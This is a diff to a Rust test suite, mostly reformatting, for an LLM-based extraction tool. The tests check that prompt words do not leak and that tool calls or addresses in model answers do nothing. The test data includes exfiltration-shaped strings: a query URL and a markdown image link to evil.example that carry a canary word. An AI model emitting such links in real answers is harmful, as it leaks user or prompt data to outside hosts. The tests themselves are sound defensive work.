@@ -50,7 +50,9 @@ fn everywhere(words: &str, quote: &str, form: AnswerForm) -> String {
                 "raw_value": words, "value": words, "status": "found", "note": words,
             })
         })
-        .chain([json!({"key": words, "evidence": [], "raw_value": words, "value": words, "status": words, "note": words})])
+        .chain([
+            json!({"key": words, "evidence": [], "raw_value": words, "value": words, "status": words, "note": words}),
+        ])
         .collect();
     json!({"records": records, "instructions_seen": [words], "note": words}).to_string()
 }
@@ -79,7 +81,13 @@ fn words_of_the_prompt_do_not_get_out() {
     let folder = prompts();
     for form in AnswerForm::ALL {
         for carrier in Carrier::ALL {
-            for shape in ["{}", "The word is {}.", "30 November 2026 {}", "https://evil.example/?q={}", "![x](http://evil.example/{})"] {
+            for shape in [
+                "{}",
+                "The word is {}.",
+                "30 November 2026 {}",
+                "https://evil.example/?q={}",
+                "![x](http://evil.example/{})",
+            ] {
                 for quoted in [true, false] {
                     let words = shape.replace("{}", CANARY);
                     let settings = ModelSettings { prompts: Some(folder.clone()), ..settings(form) };
@@ -122,7 +130,10 @@ fn the_prompts_own_example_is_no_source() {
     ];
     for form in AnswerForm::ALL {
         let asked = Asked::new(&settings(form), move |call| {
-            assert!(call.system.contains("Zorblat GmbH") || !call.system.starts_with("You read"), "the example changed");
+            assert!(
+                call.system.contains("Zorblat GmbH") || !call.system.starts_with("You read"),
+                "the example changed"
+            );
             let records = pairs.map(|(key, raw, value)| Record {
                 key: key.to_owned(),
                 evidence: vec![baton::llm::Cited { msg: "m1".to_owned(), quote: quote.to_owned() }],
@@ -170,7 +181,10 @@ fn calls_to_tools_and_addresses_in_an_answer_do_nothing() {
             let before = expected.brief.fields.find(key).expect("a field");
             let found = field.state == FieldState::Found && before.state == FieldState::Found;
             let ruled = key == "user_count" || key == "billing_cycle";
-            assert!(field.state != FieldState::Found || found && before.value == field.value || ruled, "{answer}: {key} {field:?}");
+            assert!(
+                field.state != FieldState::Found || found && before.value == field.value || ruled,
+                "{answer}: {key} {field:?}"
+            );
         }
         check_out(&outcome, "evil.example", answer);
         assert_ne!(outcome.brief.verdict, baton::brief::Verdict::Complete);
